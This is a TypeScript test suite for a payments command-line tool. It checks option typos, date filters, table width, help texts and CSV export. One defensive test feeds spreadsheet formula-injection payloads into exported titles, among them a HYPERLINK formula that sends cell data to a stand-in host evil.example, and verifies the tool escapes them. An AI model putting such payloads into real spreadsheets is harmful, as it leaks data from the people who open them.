/**
 * The command line as users type it, on the real bin: Stripe's spellings, global references,
 * typos, dates, counts, help texts that list every option, a table that fits the terminal,
 * and CSV cells that a spreadsheet cannot run.
 */
import { suite } from 'uvu'
import * as assert from 'uvu/assert'
import { mkdtemp, readFile, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { startSandbox as startPriceblocs } from '@paymux/priceblocs/sandbox'
import {
  EXPORT_HELP,
  EXPORT_OPTIONS,
  GET_HELP,
  GET_OPTIONS,
  LIST_HELP,
  LIST_OPTIONS,
  MAIN_HELP,
  MIGRATE_HELP,
  MIGRATE_OPTIONS,
  SANDBOX_HELP,
  SANDBOX_OPTIONS,
} from '@paymux/cli/internal'
import { parseCsv } from './csv-parse.ts'
import { startProxy } from './proxy.ts'
import { ndjson, runCli, startSandboxes, type Sandboxes } from './run-cli.ts'

const s = suite<{ sb: Sandboxes; dir: string }>('cli/habits (child process)')
s.before(async (ctx) => {
  ctx.sb = await startSandboxes({ count: 30, seed: 61 })
  ctx.dir = await mkdtemp(join(tmpdir(), 'paymux-cli-habits-'))
})
s.after(async (ctx) => {
  await ctx.sb.close()
  await rm(ctx.dir, { recursive: true, force: true })
})

const ids = (stdout: string) => ndjson<{ id: string }>(stdout).map((o) => o.id)

s('payment_links is payment-links; a global reference names the provider of get', async ({ sb }) => {
  const [dashed, underscored] = await Promise.all([
    runCli(['list', 'payment-links', '--limit', '40'], sb.env),
    runCli(['list', 'payment_links', '--limit', '40'], sb.env),
  ])
  assert.is(underscored.code, 0, underscored.stderr)
  assert.equal(ids(underscored.stdout), ids(dashed.stdout))
  const id = sb.wp.ids('paymentIntents')[3] as string
  const [byRef, clash] = await Promise.all([
    runCli(['get', 'payment_intents', `wooshpay:${id}`], sb.env),
    runCli(['get', 'payment-intents', `wooshpay:${id}`, '--provider', 'priceblocs'], sb.env),
  ])
  assert.is(byRef.code, 0, byRef.stderr)
  assert.equal((JSON.parse(byRef.stdout) as { id: string; provider: string }).id, id)
  assert.is(clash.code, 2)
  assert.match(clash.stderr, /is a wooshpay reference, but --provider is priceblocs/)
})

s('a mistyped option gets the closest one; --limit -1 says what it needs', async ({ sb }) => {
  const [typo, negative, resource] = await Promise.all([
    runCli(['list', 'payment-links', '--provder', 'all'], sb.env),
    runCli(['list', 'payment-links', '--limit', '-1'], sb.env),
    runCli(['list', 'paymnet-links'], sb.env),
  ])
  assert.is(typo.code, 2)
  assert.is(typo.stderr, 'paymux: usage: unknown option --provder (did you mean --provider? see paymux list --help)\n')
  assert.is(negative.code, 2)
  assert.match(negative.stderr, /^paymux: usage: --limit needs a positive integer from 1 to 1000000, got "-1"/)
  assert.match(resource.stderr, /did you mean payment-links\?/)
})

s('--created-gte 2023 and 2024-03 are dates; short numbers are refused; @seconds are seconds', async ({ sb }) => {
  const list = (...filter: string[]) =>
    runCli(['list', 'checkout-sessions', '--provider', 'priceblocs', '--limit', '100', ...filter], sb.env)
  const all = ndjson<{ id: string; createdAt: string }>((await list()).stdout)
  const march = all.filter((o) => o.createdAt >= '2024-03-01').map((o) => o.id)
  assert.ok(march.length > 0 && march.length < all.length, 'the seed spans March 2024')
  const [year, month, day, seconds, short] = await Promise.all([
    list('--created-gte', '2023'),
    list('--created-gte', '2024-03'),
    list('--created-gte', '2024-03-01'),
    list('--created-gte', `@${Date.UTC(2024, 2, 1) / 1000}`),
    list('--created-gte', '2024123'),
  ])
  const since2023 = all.filter((o) => o.createdAt >= '2023-01-01').map((o) => o.id)
  assert.ok(since2023.length > march.length && since2023.length < all.length)
  assert.equal(ids(year.stdout), since2023)
  assert.equal(ids(month.stdout), march)
  assert.equal(ids(day.stdout), march)
  assert.equal(ids(seconds.stdout), march)
  assert.is(short.code, 2)
  assert.match(
    short.stderr,
    /--created-gte is ambiguous: "2024123" is neither a year nor Unix seconds \(use YYYY, YYYY-MM/,
  )
})

s('the table fits COLUMNS by truncating its widest column', async ({ sb }) => {
  const wide = await runCli(['list', 'payment-links', '--provider', 'priceblocs', '--limit', '5', '--table'], sb.env)
  const natural = Math.max(
    ...wide.stdout
      .trimEnd()
      .split('\n')
      .map((l) => l.length),
  )
  assert.ok(natural > 60, `the natural table is ${natural} wide`)
  const r = await runCli(['list', 'payment-links', '--provider', 'priceblocs', '--limit', '5', '--table'], {
    ...sb.env,
    COLUMNS: '60',
  })
  assert.is(r.code, 0, r.stderr)
  const lines = r.stdout.trimEnd().split('\n')
  assert.is(lines.length, 6)
  for (const line of lines) assert.ok(line.length <= 60, `${line.length}: ${line}`)
  // The id column (the widest) is cut, the others are whole.
  assert.match(lines[1] as string, /^\S+… +priceblocs +\w+ +- +\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/)
})

s('every help text lists every option of its command', () => {
  const helps: [string, object, string][] = [
    ['list', LIST_OPTIONS, LIST_HELP],
    ['get', GET_OPTIONS, GET_HELP],
    ['export', EXPORT_OPTIONS, EXPORT_HELP],
    ['migrate', MIGRATE_OPTIONS, MIGRATE_HELP],
    ['sandbox', SANDBOX_OPTIONS, SANDBOX_HELP],
  ]
  for (const [command, options, help] of helps) {
    for (const name of Object.keys(options)) {
      assert.ok(help.includes(`--${name}`), `${command} --help lacks --${name}`)
      assert.ok(MAIN_HELP.includes(`--${name}`), `paymux --help lacks --${name} (of ${command})`)
    }
  }
  assert.match(EXPORT_HELP, /--provider P +wooshpay \| priceblocs \| all/)
})

s('CSV cells a spreadsheet would run start with a quote; plain numbers stay numbers', async ({ dir }) => {
  const pb = await startPriceblocs({ count: 8, seed: 62 })
  const payloads = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+2', '-3+4', '@SUM(1+1)', '\tTAB', '-12.50']
  let i = 0
  const poison = (v: unknown): unknown => {
    if (Array.isArray(v)) return v.map(poison)
    if (v === null || typeof v !== 'object') return v
    return Object.fromEntries(
      Object.entries(v).map(([k, x]) => [k, k === 'title' ? (payloads[i++ % payloads.length] as string) : poison(x)]),
    )
  }
  const proxy = await startProxy(pb.baseUrl, { rewriteBody: poison })
  const out = join(dir, 'links.csv')
  try {
    const r = await runCli(['export', 'payment-links', '--provider', 'priceblocs', '--out', out], {
      PRICEBLOCS_API_KEY: pb.apiKey,
      PRICEBLOCS_BASE_URL: proxy.baseUrl,
    })
    assert.is(r.code, 0, r.stderr)
    const rows = parseCsv(await readFile(out, 'utf8'))
    const col = (rows[0] as string[]).indexOf('title')
    const titles = rows.slice(1).map((row) => row[col] as string)
    assert.is(titles.length, 8)
    for (const t of titles) {
      if (t === '-12.50') continue
      assert.ok(t.startsWith("'"), `a formula cell: ${JSON.stringify(t)}`)
      assert.ok(payloads.includes(t.slice(1)), t)
    }
    assert.ok(titles.includes('-12.50'), 'a plain number is left as a number')
    assert.ok(titles.includes(`'${payloads[0] as string}`))
  } finally {
    await proxy.close()
    await pb.close()
  }
})

s.run()
